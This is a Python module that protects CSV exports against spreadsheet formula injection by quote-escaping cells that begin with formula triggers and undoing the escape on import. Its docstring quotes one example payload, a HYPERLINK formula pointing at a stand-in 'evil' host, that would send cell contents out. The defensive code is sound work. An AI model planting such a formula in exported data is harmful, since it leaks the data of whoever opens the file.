"""CSV cells that are safe to open in a spreadsheet (no Django): every CSV the project writes goes through
`csv_writer`, and the import readers undo the escape with `formula_unescape`.

Why: Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (or with a tab or
carriage return in front of one) as a formula, so a sample text such as `=HYPERLINK("http://evil/?"&A1)`
exfiltrates or runs commands when a lead opens an export ("CSV injection", OWASP). The OWASP rule: put a
single quote in front of such a cell, which the spreadsheet shows as text.

Decisions:
- Only *strings* are escaped. Numbers the program writes as numbers (an int or float such as a -0.5 weight or
  a negative Bradley-Terry score) stay numbers: Python writes them as plain digits, which a spreadsheet reads
  as a number, never as a formula. A *text* that merely looks like a number ("-5 stars", "-0.5") is escaped
  like any other text, as OWASP says.
- The escape is lossless: a string that already starts with quotes followed by a trigger (`'=x`) gets one
  more quote (`''=x`), so `formula_unescape` (used by synthstudio's CSV import) strips exactly one quote from
  any cell of the form `'+<trigger>…` and an exported CSV re-imports to the same texts. A text that starts
  with a quote but no trigger after it (`'tis`) is left alone both ways.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")
_NEEDS_ESCAPE = re.compile(r"'*[=+\-@\t\r]")


def formula_safe(value: Any) -> Any:
    """The cell as written: a string a spreadsheet would run gets a leading `'`; anything else is unchanged."""
    if isinstance(value, str) and _NEEDS_ESCAPE.match(value):
        return "'" + value
    return value


def formula_unescape(value: str) -> str:
    """The inverse of formula_safe for a cell read back from CSV."""
    return value[1:] if _ESCAPED.match(value) else value


class FormulaSafeWriter:
    """csv.writer with every cell passed through formula_safe (header rows too: they can hold label names)."""

    def __init__(self, out: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([formula_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: Any, **fmtparams: Any) -> FormulaSafeWriter:
    """The one way the project writes CSV: `csv_writer(out).writerow([...])`, same arguments as csv.writer."""
    return FormulaSafeWriter(out, **fmtparams)
